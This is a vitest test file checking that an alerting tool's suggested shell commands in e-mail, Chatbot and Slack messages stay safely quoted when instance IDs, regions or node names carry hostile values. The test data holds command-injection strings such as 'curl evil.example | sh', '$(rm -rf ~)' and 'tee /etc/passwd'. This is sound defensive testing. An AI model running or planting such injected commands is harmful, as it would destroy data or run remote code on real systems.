import { type DigestContext, parseMatchers, reportCommand, type Transition } from "@fleet-auditor/audit";
import { EDGE_GROUP_BY, edgePresenter, refusedFinding } from "@fleet-auditor/kubeedge-audit";
import {
  type ChatbotNotification,
  DigestV1Schema,
  renderDigests,
  type SlackMessage,
  slackMessage,
} from "@fleet-auditor/render";
import { describe, expect, it } from "vitest";
import { shellWords, shWords } from "../../helpers/shell-words.ts";
import { ctx, editedT, t } from "../../helpers/transitions.ts";

// The commands a message suggests (inspect, silence, report) are pasted into a shell by someone
// on call: every value in them comes from KEB or the edge. Each channel must show the same
// command, quoted so that pasting runs nothing a value holds, or no command at all.

/** Every channel of one run's digest: e-mail, Chatbot, the structured digest and its Slack message. */
function channels(transitions: Transition[], context: DigestContext = ctx) {
  return channelsOf(transitions, context);
}

function channelsOf(transitions: Transition[], context: DigestContext) {
  const [m] = renderDigests(context, transitions);
  const doc = JSON.parse(m?.message ?? "{}") as { default: string; email: string; https: string };
  const digest = DigestV1Schema.parse(JSON.parse(doc.default));
  const chatbot = JSON.parse(doc.https) as ChatbotNotification;
  // Slack renders what the incidents topic carries: the digest with its rows for channels.
  const [forSlack] = renderDigests({ ...context, forChannels: true }, transitions);
  const forSlackDoc = JSON.parse(forSlack?.message ?? "{}") as { default: string };
  const slack = slackMessage(DigestV1Schema.parse(JSON.parse(forSlackDoc.default)));
  return { subject: m?.subject ?? "", email: doc.email, chatbot, digest, slack };
}
type Channels = ReturnType<typeof channels>;

const slackTexts = (s: SlackMessage): string[] => [
  s.text,
  ...s.blocks.flatMap((b) => {
    if (b.type === "header") return [b.text.text];
    if (b.type === "section") return [b.text?.text ?? "", ...(b.fields ?? []).map((f) => f.text)];
    if (b.type === "context") return b.elements.map((e) => e.text);
    return [];
  }),
];

/** Every rendered line of every channel, by channel. */
function lines(c: Channels): Record<string, string[]> {
  const split = (texts: string[]): string[] => texts.flatMap((x) => x.split("\n"));
  return {
    email: split([c.subject, c.email]),
    chatbot: split([
      c.chatbot.content.title,
      c.chatbot.content.description,
      ...c.chatbot.content.nextSteps,
      c.chatbot.metadata.summary,
    ]),
    slack: split(slackTexts(c.slack)),
    structured: split([c.digest.subject]),
  };
}

const unescapeSlack = (s: string): string =>
  s.replace(/&lt;/g, "<").replace(/&gt;/g, ">").replace(/&amp;/g, "&");

type Suggested = Record<"inspect" | "silence", string[]>;

/** The commands each channel suggests, by kind. */
function commands(c: Channels): Record<"email" | "chatbot" | "slack", Suggested> {
  const pick = (texts: string[], re: RegExp, decode: (s: string) => string): Suggested => {
    const out: Suggested = { inspect: [], silence: [] };
    for (const text of texts)
      for (const m of text.matchAll(re))
        out[(m[1] as string).toLowerCase() as keyof Suggested].push(decode(m[2] as string));
    return out;
  };
  return {
    email: pick(c.email.split("\n"), /^ +(inspect|silence): (.*)$/g, (s) => s),
    chatbot: pick(c.chatbot.content.nextSteps, /^(Inspect|Silence): `([^`]*)`$/g, unescapeSlack),
    slack: pick(slackTexts(c.slack), /(inspect|silence): `([^`]*)`/g, unescapeSlack),
  };
}

/** A transition of runtime `i` whose instance ID is `id`. */
function withId(i: number, id: string): Transition {
  return { ...editedT(t(i), () => ({ instanceID: id })), key: id };
}

/** A collapsed group (three members, `collapseAt` 2) in `region` failing for `reason`. */
function group(region: string, reason: string): { transitions: Transition[]; context: DigestContext } {
  return {
    transitions: [1, 2, 3].map((i) => t(i, "firing", { region, reason })),
    context: { ...ctx, collapseAt: 2 },
  };
}

/** A node's refusals (403 on `list pods`): an applications audit transition on `node`. */
function edgeRefusal(node: string): Transition {
  const f = refusedFinding({
    node,
    reason: "Forbidden",
    code: 403,
    count: 5,
    requests: ["list pods"],
    keys: ["/core/v1/pods"],
    firstAt: "2026-11-30T05:00:00.000Z",
    lastAt: "2026-11-30T05:50:00.000Z",
  });
  return { ...t(1, "firing", { state: "refused", severity: "warning" }), key: f.key, finding: f };
}

const edgeCtx: DigestContext = {
  ...ctx,
  audit: "applications",
  groupBy: EDGE_GROUP_BY,
  presenter: edgePresenter,
};

const startsWithAny = (all: Record<string, string[]>, starts: string[]): string[] =>
  Object.entries(all).flatMap(([channel, ls]) =>
    ls.filter((l) => starts.some((s) => l.trimStart().startsWith(s))).map((l) => `${channel}: ${l}`),
  );

describe("commands in messages", () => {
  it("never let an instance ID with line breaks forge a line or plant a command, in any channel", () => {
    const evil = editedT(withId(1, "inst-1\n\nRECOVERED (1)\n  x $(curl evil)"), (_, op) => ({
      operation: { ...op, description: "inspect: curl evil.example | sh" },
    }));
    const c = channels([evil]);
    expect(startsWithAny(lines(c), ["RECOVERED (1)", "x $(curl", "inspect: curl", "curl"])).toEqual([]);
    // The command cannot hold it safely (flattened, it would name another runtime): it is left out.
    const cmds = commands(c);
    // The group's silence is still found in each channel: the commands are read, and none is inspect.
    expect([cmds.email.silence, cmds.chatbot.silence, cmds.slack.silence].map((s) => s.length)).toEqual([
      1, 1, 1,
    ]);
    expect(cmds.email.inspect).toEqual([]);
    expect(cmds.chatbot.inspect).toEqual([]);
    expect(cmds.slack.inspect).toEqual([]);
    expect(Object.values(lines(c)).flat().length).toBeGreaterThan(0);
    for (const ls of Object.values(lines(c))) for (const l of ls) expect(l).not.toMatch(/kcp rt -i/);
  });

  it("quote an instance ID with shell syntax: every channel shows the same command, which gives back the ID", () => {
    const id = "a'b;$(rm -rf ~)";
    const c = channels([withId(1, id)]);
    const cmds = commands(c);
    const [command] = cmds.email.inspect;
    expect(command).toBeDefined();
    expect(cmds.chatbot.inspect).toEqual([command]);
    expect(cmds.slack.inspect).toEqual([command]);
    expect(shellWords(command as string)).toEqual(["kcp", "rt", "-i", id, "--ops", "-o", "json"]);
  });

  it("quote a collapsed group's silence matchers, the same in every channel, matching the exact values", () => {
    const region = "eu'1;$(rm -rf ~)";
    const reason = 'err "quota" | tee /etc/passwd';
    const { transitions, context } = group(region, reason);
    const c = channels(transitions, context);
    const cmds = commands(c);
    const [command] = cmds.email.silence;
    expect(command).toBeDefined();
    expect(cmds.chatbot.silence).toEqual([command]);
    expect(cmds.slack.silence).toEqual([command]);
    const words = shellWords(command as string);
    // Each value in Alertmanager's double quotes, where `--match` reads it back exactly.
    expect(words).toEqual([
      "fleet-auditor",
      "silences",
      "add",
      "--audit",
      "failing",
      "--match",
      "state=failed",
      "--match",
      String.raw`reason="err \"quota\" | tee /etc/passwd"`,
      "--match",
      `region="${region}"`,
      "--for",
      "4h",
      "--comment",
      `acknowledged: failed ${reason} ${region}`,
      "--by",
      "$USER",
    ]);
    const matched = words.flatMap((w, i) => (words[i - 1] === "--match" ? parseMatchers(w) : []));
    expect(matched).toEqual([
      { name: "state", op: "=", value: "failed" },
      { name: "reason", op: "=", value: reason },
      { name: "region", op: "=", value: region },
    ]);
  });

  it("leave a silence out when a matcher holds a line break or control character: flattened, it would match nothing", () => {
    // And a backtick or a direction override: Slack's code spans cannot show the first, the second
    // makes the command read otherwise than it runs.
    for (const region of ["eu-1\nRECOVERED (9)", "eu-1\u0007", "eu-1\u2028x", "eu-1\u202ex", "eu-`1`"]) {
      const { transitions, context } = group(region, "err_quota");
      const c = channels(transitions, context);
      const cmds = commands(c);
      expect([cmds.email.silence, cmds.chatbot.silence, cmds.slack.silence]).toEqual([[], [], []]);
      expect(c.email).not.toContain("silences add");
      expect(startsWithAny(lines(c), ["RECOVERED (9)"])).toEqual([]);
    }
  });

  it("quote an edge node in apps status, with --node= when it starts with a dash", () => {
    const edge = edgeRefusal;
    const channels = (transitions: Transition[]) => channelsOf(transitions, edgeCtx);
    const quoted = commands(channels([edge("edge 1;$(id)")]));
    expect(quoted.email.inspect).toEqual(["fleet-auditor apps status --node 'edge 1;$(id)'"]);
    expect(quoted.chatbot.inspect).toEqual(quoted.email.inspect);
    expect(quoted.slack.inspect).toEqual(quoted.email.inspect);
    const dash = commands(channels([edge("-rf")]));
    expect(dash.email.inspect).toEqual(["fleet-auditor apps status --node=-rf"]);
  });

  it("act on the run's own store, the same in every channel: the tables and region before, a state directory after", () => {
    const deployed = { region: "eu-west-1", table: "fleet-audit-prod", statusTable: "fleet-status-prod" };
    const { transitions, context } = group("eu-1", "err_quota");
    const cmds = commands(channels(transitions, { ...context, store: deployed }));
    const [silence] = cmds.email.silence;
    expect(shellWords(silence as string).slice(0, 5)).toEqual([
      "AWS_REGION=eu-west-1",
      "AUDIT_TABLE=fleet-audit-prod",
      "fleet-auditor",
      "silences",
      "add",
    ]);
    expect(cmds.chatbot.silence).toEqual([silence]);
    expect(cmds.slack.silence).toEqual([silence]);

    const embedded = commands(channels(transitions, { ...context, store: { stateDir: "/srv/fa state" } }));
    expect(shellWords(embedded.email.silence[0] as string).slice(-2)).toEqual([
      "--state-dir",
      "/srv/fa state",
    ]);
    expect(embedded.slack.silence).toEqual(embedded.email.silence);

    const edgeT = edgeRefusal("edge-1");
    const status = commands(channelsOf([edgeT], { ...edgeCtx, store: deployed }));
    expect(status.email.inspect).toEqual([
      "AWS_REGION=eu-west-1 STATUS_TABLE=fleet-status-prod fleet-auditor apps status --node edge-1",
    ]);
    expect(status.slack.inspect).toEqual(status.email.inspect);
    // Deployed without the status table's name, the command would read a local store: left out.
    const { statusTable: _, ...auditOnly } = deployed;
    expect(commands(channelsOf([edgeT], { ...edgeCtx, store: auditOnly })).email.inspect).toEqual([]);
  });

  it("show the report command as given, the same in every channel, built quoted from the store's place", () => {
    const command = reportCommand("run-1", { stateDir: "/tmp/my state's dir" }) as string;
    expect(shellWords(command)).toEqual([
      "fleet-auditor",
      "runs",
      "show",
      "run-1",
      "--state-dir",
      "/tmp/my state's dir",
    ]);
    expect(reportCommand("run-1", { table: "fleet-audit" })).toBe(
      "AUDIT_TABLE=fleet-audit fleet-auditor runs show run-1",
    );
    expect(reportCommand("run-1\nrm -rf ~")).toBeUndefined();
    const c = channels([t(1)], { ...ctx, report: { stored: true, command } });
    expect(c.email).toContain(`Every transition of this run: ${command}\n`);
    expect(unescapeSlack(c.chatbot.content.description)).toContain(`\`${command}\``);
    expect(unescapeSlack(JSON.stringify(slackTexts(c.slack)))).toContain(
      JSON.stringify(command).slice(1, -1),
    );
  });

  it("are read back by a real POSIX shell as the values they were built from", () => {
    // Harmless payloads only: a quoting regression runs what a value holds.
    for (const id of ["a'b;$(printf PWNED)", "x y", "'", "", "-i", '"$HOME"', "a\\b", "*", "~", "#x"]) {
      const [command] = commands(channels([withId(1, id)])).email.inspect;
      expect(command, id).toBeDefined();
      // A value that starts with a dash is joined to its flag, or it would read as a flag.
      const flag = id.startsWith("-") ? [`-i=${id}`] : ["-i", id];
      expect(shWords(command as string)).toEqual(["kcp", "rt", ...flag, "--ops", "-o", "json"]);
    }
    const { transitions, context } = group("eu'1;$(printf PWNED)", "x y");
    const [silence] = commands(channels(transitions, context)).email.silence;
    expect(shWords(silence as string)).toEqual(
      shellWords(silence as string).map((w) => w.replace("$USER", "someone")),
    );
  });
});
